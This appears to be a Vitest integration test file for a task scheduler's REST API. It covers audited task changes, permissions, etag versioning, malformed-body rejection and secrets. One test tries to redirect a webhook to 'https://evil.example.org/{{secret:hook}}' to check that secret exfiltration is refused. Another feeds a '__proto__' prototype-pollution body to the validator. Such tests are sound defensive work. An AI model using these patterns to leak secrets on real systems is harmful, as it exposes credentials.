import { eq } from 'drizzle-orm'
import { v7 as uuidV7 } from 'uuid'
import { beforeAll, describe, expect, it } from 'vitest'
import { PERMISSIONS, type Permission } from '#domain/roles.ts'
import { audits } from '#schema/audits.ts'
import { tasks } from '#schema/tasks.ts'
import { CLIENT_ADDRESS_HEADER } from '#server/auth/client-address.ts'
import { answerShapeOf, askApi, makeServiceToken, problemIn, shapedAnswer } from '#tests/api-caller.ts'
import { openTestDatabase } from '#tests/database.ts'
import { makeTask, type TaskRecord } from '#tests/factories/task-factory.ts'
import { makeHandler } from '#tests/factories/worker-factory.ts'
import { asWebProgram } from '#tests/web-program.ts'

const database = await openTestDatabase()
const { db } = database
asWebProgram(database.url)

let headers: Record<string, string>
let task: TaskRecord
let dependee: TaskRecord

beforeAll(async () => {
  headers = (await makeServiceToken(db)).headers
  await makeHandler(db)
  task = await makeTask(db, { name: 'load' })
  dependee = await makeTask(db, { name: 'extract' })
  await ask('POST', '/dependencies', { dependerId: task.id, dependeeId: dependee.id })
})

/** The programs of these tests. */
const FROM = '192.0.2.77'

const ask = (method: string, path: string, body?: unknown, more: Record<string, string> = {}) =>
  askApi(method, path, { body, headers: { ...headers, [CLIENT_ADDRESS_HEADER]: FROM, ...more } })

describe('a task', () => {
  const plain = () => ({ name: `made ${uuidV7()}`, handler: 'log', crontabId: task.crontabId, kwargs: { message: 'hello' } })

  it('is made, read, changed and deleted, with an audit for each by the name and the address of the token', async () => {
    const made = await ask('POST', '/tasks', plain())
    const { task: row, input } = await shapedAnswer(made, answerShapeOf('createTask'))
    expect([made.status, made.headers.get('location')]).toEqual([201, `/api/v1/tasks/${row.id}`])
    expect(input.misfirePolicy).toBe('run_all')

    const etag = made.headers.get('etag') ?? ''
    const changed = await ask('PATCH', `/tasks/${row.id}`, { description: 'now with words' }, { 'if-match': etag })
    const after = await shapedAnswer(changed, answerShapeOf('changeTask'))
    expect([changed.status, after.input.description, after.input.kwargs]).toEqual([200, 'now with words', { message: 'hello' }])
    expect(changed.headers.get('etag')).not.toBe(etag)

    const stale = await problemIn(await ask('PATCH', `/tasks/${row.id}`, { description: 'unseen' }, { 'if-match': etag }))
    expect([stale.status, stale.code]).toEqual([412, 'version_differs'])
    expect((await problemIn(await ask('DELETE', `/tasks/${row.id}`, undefined, { 'if-match': etag }))).status).toBe(412)
    expect((await ask('DELETE', `/tasks/${row.id}`, undefined, { 'if-match': changed.headers.get('etag') ?? '' })).status).toBe(204)
    expect((await problemIn(await ask('GET', `/tasks/${row.id}`))).code).toBe('not_found')

    const written = await db
      .select()
      .from(audits)
      .where(eq(audits.subjectId, String(row.id)))
      .orderBy(audits.id)
    expect(written.map(({ message, actorKind, actorName, address }) => [message.split(' ')[0], actorKind, actorName, address])).toEqual([
      ['Created', 'token', 'deploy (service)', FROM],
      ['Changed', 'token', 'deploy (service)', FROM],
      ['Deleted', 'token', 'deploy (service)', FROM],
    ])
  })

  it('is not made by who may not, which is written down although nothing came of it', async () => {
    const viewer = (await makeServiceToken(db, { name: 'monitor', role: 'viewer' })).headers
    const refused = await problemIn(await ask('POST', '/tasks', plain(), viewer))
    expect(refused.status).toBe(403)
    const written = await db.select().from(audits).where(eq(audits.type, 'refused'))
    expect(written).toMatchObject([
      { actorName: 'monitor (service)', address: FROM, subjectName: 'createTask', outcome: 'failed', message: refused.detail },
    ])
    expect((await ask('GET', '/tasks', undefined, viewer)).status).toBe(200)
    expect(await db.$count(audits, eq(audits.type, 'refused'))).toBe(1)
  })

  it('is changed only by who says what the change is made from, or that it means whatever is there', async () => {
    const { task: row } = await (await ask('POST', '/tasks', plain())).json()
    expect((await problemIn(await ask('PATCH', `/tasks/${row.id}`, { description: 'a' }))).status).toBe(428)
    for (const none of ['yesterday', '"yesterday"', 'W/"2026-01-01T00:00:00Z"'])
      expect((await problemIn(await ask('PATCH', `/tasks/${row.id}`, { description: 'a' }, { 'if-match': none }))).status).toBe(412)
    expect((await ask('PATCH', `/tasks/${row.id}`, { description: 'a' }, { 'if-match': '*' })).status).toBe(200)
  })

  it('is refused with every wrong field by its name, and nothing of it is kept', async () => {
    const before = await db.$count(tasks)
    const refused = async (body: unknown) =>
      (await problemIn(await ask('POST', '/tasks', body))).errors?.map(({ field }: { field: string }) => field)
    expect(await refused({ ...plain(), colour: 'red', nickname: 'x' })).toEqual(['colour', 'nickname'])
    expect(
      await refused({ ...plain(), dependsOn: [{ id: null, otherTaskId: 1, future: false, endings: 'succeeded', colour: 1 }] }),
    ).toEqual(['dependsOn.0.colour'])
    expect(await refused({ handler: 'log', crontabId: 'one' })).toEqual(['name', 'crontabId'])
    expect(await refused({ ...plain(), misfirePolicy: 'skip' })).toEqual(['gracePeriodSeconds'])
    expect(await refused({ ...plain(), kwargs: {} })).toEqual(['kwargs'])
    expect(await db.$count(tasks)).toBe(before)
  })
})

describe('a body', () => {
  const codeOf = async (body: unknown, more: Record<string, string> = {}) => (await problemIn(await ask('POST', '/tasks', body, more))).code
  const deep = `{"name":${'['.repeat(10_000)}${']'.repeat(10_000)}}`

  it.each([
    ['that is no JSON', '{"name":', 'malformed'],
    ['that is empty', '', 'malformed'],
    ['that is a list', '[1]', 'invalid_input'],
    ['that is nested ten thousand deep', deep, 'invalid_input'],
    ['with a number that is none', '{"priority":1e400}', 'invalid_input'],
    ['with a name that JavaScript would lose', '{"kwargs":{"__proto__":{"a":1}}}', 'invalid_input'],
    ['with NUL', '{"name":"a\\u0000b"}', 'invalid_input'],
    ['with half of a character', '{"name":"\\ud800"}', 'invalid_input'],
    ['of more than a megabyte', JSON.stringify({ name: 'x'.repeat(1_100_000) }), 'too_large'],
  ])('%s is answered', async (_, body, code) => {
    expect(await codeOf(body)).toBe(code)
  })

  it('that is no JSON by its own word is refused, also where it would do', async () => {
    expect(await codeOf('{}', { 'content-type': 'text/plain' })).toBe('unsupported_media_type')
  })
})

describe('crontabs and dependencies', () => {
  it('are made, changed by their version and deleted', async () => {
    const made = await ask('POST', '/crontabs', {
      minute: '5',
      hour: '*',
      dayOfMonth: '*',
      month: '*',
      dayOfWeek: '*',
      timezone: 'Europe/Berlin',
    })
    const crontab = await shapedAnswer(made, answerShapeOf('createCrontab'))
    expect([made.status, crontab.definition.second, crontab.definition.gap]).toEqual([201, '0', 'shift'])
    const changed = await ask('PATCH', `/crontabs/${crontab.id}`, { minute: '6' }, { 'if-match': made.headers.get('etag') ?? '' })
    expect((await shapedAnswer(changed, answerShapeOf('changeCrontab'))).definition).toMatchObject({
      minute: '6',
      timezone: 'Europe/Berlin',
    })
    expect((await problemIn(await ask('PATCH', `/crontabs/${crontab.id}`, { minute: '99' }, { 'if-match': '*' }))).errors?.[0]?.field).toBe(
      'minute',
    )
    expect((await ask('DELETE', `/crontabs/${crontab.id}`)).status).toBe(204)
    expect((await problemIn(await ask('DELETE', `/crontabs/${task.crontabId}`))).code).toBe('in_use')

    const other = await makeTask(db, { name: 'other' })
    const edge = await ask('POST', '/dependencies', { dependerId: other.id, dependeeId: task.id })
    const { id } = await shapedAnswer(edge, answerShapeOf('createDependency'))
    const etag = edge.headers.get('etag') ?? ''
    const future = await ask('PATCH', `/dependencies/${id}`, { future: true }, { 'if-match': etag })
    expect(await shapedAnswer(future, answerShapeOf('changeDependency'))).toMatchObject({ future: true, endings: 'succeeded' })
    expect((await problemIn(await ask('PATCH', `/dependencies/${id}`, { future: false }, { 'if-match': etag }))).status).toBe(412)
    expect((await problemIn(await ask('POST', '/dependencies', { dependerId: dependee.id, dependeeId: task.id }))).code).toBe('cycle')
    expect((await ask('DELETE', `/dependencies/${id}`)).status).toBe(204)
  })
})

describe('what people ask for', () => {
  it('is asked for by the type of its action, with its own payload', async () => {
    const paused = await ask('POST', '/actions/pause-task', { taskId: task.id, note: 'moving' })
    expect([paused.status, (await shapedAnswer(paused, answerShapeOf('askPauseTask'))).outcome]).toEqual([200, 'Paused “load”: moving'])
    expect((await (await ask('GET', `/tasks/${task.id}`)).json()).task.pause).toMatchObject({ byName: 'deploy (service)', note: 'moving' })
    expect((await ask('POST', '/actions/resume-task', { taskId: task.id })).status).toBe(200)
    const asked = await ask('POST', '/actions/run-now', { taskId: task.id })
    const { id } = await shapedAnswer(asked, answerShapeOf('askRunNow'))
    expect([asked.status, (await (await ask('GET', `/actions/${id}`)).json()).state]).toEqual([202, 'pending'])
    const refused = await problemIn(await ask('POST', '/actions/pause-task', { taskId: task.id, colour: 'red' }))
    expect(refused.errors).toEqual([{ field: 'colour', detail: expect.any(String) }])
  })

  it('is asked of many tasks at once', async () => {
    const ids = [task.id, dependee.id]
    for (const [path, body, id] of [
      ['/tasks/pause', { ids }, 'pauseTasks'],
      ['/tasks/switch', { ids, enabled: true }, 'switchTasks'],
      ['/tasks/run', { ids }, 'runTasks'],
    ] as const) {
      const response = await ask('POST', path, body)
      expect(response.status).toBe(id === 'runTasks' ? 202 : 200)
      await shapedAnswer(response, answerShapeOf(id))
    }
  })
})

describe('a channel and a rule', () => {
  it('are changed only from the version that is said, where one is', async () => {
    const { headers: by } = await makeServiceToken(db, { role: 'administrator', scopes: ['read', 'manage-channels'] })
    const config = { kind: 'webhook', address: 'https://hooks.example.org/djag', signingSecret: null }
    const channel = { name: 'on call', config, isEnabled: true }
    const { id } = await (await ask('POST', '/notification-channels', channel, by)).json()
    const rule = { name: 'all', leastSeverity: 'warning', tags: [], owners: [], hours: null, afterMinutes: 0, channelIds: [id] }
    await ask('POST', '/notification-rules', rule, by)
    for (const [path, body] of [
      ['/notification-channels', channel],
      ['/notification-rules', rule],
    ] as const) {
      const { rows } = await (await ask('GET', path, undefined, by)).json()
      const [{ id: itsId, updatedAt }] = rows
      const change = (more: Record<string, string>) => ask('PUT', `${path}/${itsId}`, { ...body, name: 'renamed' }, { ...by, ...more })
      expect((await change({ 'if-match': '"2020-01-01T00:00:00.000Z"' })).status).toBe(412)
      expect((await change({ 'if-match': `"${updatedAt}"` })).status).toBe(200)
      expect((await change({})).status).toBe(200)
    }
  })
})

describe('a channel that names a secret', () => {
  it('is made, and led elsewhere, only by who may change secrets: it sends their values to its address', async () => {
    const of = async (...scopes: Permission[]) =>
      (await makeServiceToken(db, { role: 'administrator', scopes: ['read', ...scopes] })).headers
    const [less, more] = [await of('manage-channels'), await of('manage-channels', 'manage-secrets')]
    const channel = (address: string, name = 'secret hook') => {
      return { name, isEnabled: true, config: { kind: 'webhook', address, signingSecret: null } }
    }
    const naming = channel('https://hooks.example.org/{{secret:hook}}')
    expect((await problemIn(await ask('POST', '/notification-channels', naming, less))).detail).toContain('manage-secrets')
    const { id } = await (await ask('POST', '/notification-channels', naming, more)).json()
    const change = async (input: object, by: Record<string, string>) => (await ask('PUT', `/notification-channels/${id}`, input, by)).status
    expect(await change(channel('https://evil.example.org/{{secret:hook}}'), less)).toBe(403)
    expect(await change(channel('https://hooks.example.org/{{secret:hook}}', 'secret hook of ours'), less)).toBe(200)
    expect(await change(channel('https://hooks.example.org/none'), less)).toBe(200)
  })
})

describe('tags, people and secrets', () => {
  it('are changed only from the version that is said: a tag by who says one, roles and secrets where one is said', async () => {
    const { headers: by } = await makeServiceToken(db, { role: 'administrator', scopes: [...PERMISSIONS] })
    const versioned = async (method: string, path: string, body: unknown, version: string | null) =>
      (await ask(method, path, body, { ...by, ...(version !== null && { 'if-match': version }) })).status
    const made = await ask('POST', '/tags', { name: 'finance', colour: 'teal' }, by)
    const [place, first] = [made.headers.get('location')?.replace('/api/v1', '') ?? '', made.headers.get('etag')]
    expect((await problemIn(await ask('PATCH', place, { colour: 'plum' }, by))).code).toBe('version_required')
    expect(await versioned('PATCH', place, { colour: 'plum' }, first)).toBe(200)
    expect((await problemIn(await ask('PATCH', place, { name: 'money' }, { ...by, 'if-match': first ?? '' }))).code).toBe('version_differs')
    expect(await versioned('DELETE', place, undefined, first)).toBe(412)
    const read = await ask('GET', place, undefined, by)
    expect(await shapedAnswer(read, answerShapeOf('getTag'))).toMatchObject({ name: 'finance', colour: 'plum', taskCount: 0 })
    expect(await versioned('DELETE', place, undefined, read.headers.get('etag'))).toBe(204)

    const { person } = await (await ask('POST', '/people', { name: 'Grace', email: 'grace@example.com', role: 'editor' }, by)).json()
    const etag = async () => (await ask('GET', `/people/${person.id}`, undefined, by)).headers.get('etag')
    const before = await etag()
    expect(await versioned('PUT', `/people/${person.id}/role`, { role: 'viewer', tags: null }, before)).toBe(200)
    expect(await versioned('PUT', `/people/${person.id}/role`, { role: 'operator', tags: null }, before)).toBe(412)
    expect(await versioned('PUT', `/people/${person.id}/active`, { isActive: false }, before)).toBe(412)
    expect(await versioned('PUT', `/people/${person.id}/active`, { isActive: false }, await etag())).toBe(200)

    const put = (version: string | null) => versioned('PUT', '/secrets/mail', { value: uuidV7() }, version)
    expect([await put('"2026-01-01T00:00:00.000Z"'), await put(null)]).toEqual([412, 200])
    const { rows } = await (await ask('GET', '/secrets', undefined, by)).json()
    const changedAt = `"${rows.find(({ name }: { name: string }) => name === 'mail').changedAt}"`
    expect(await put(changedAt)).toBe(200)
    expect([await put(changedAt), await versioned('DELETE', '/secrets/mail', undefined, changedAt)]).toEqual([412, 412])
    expect(await versioned('DELETE', '/secrets/mail', undefined, '*')).toBe(204)
  })
})
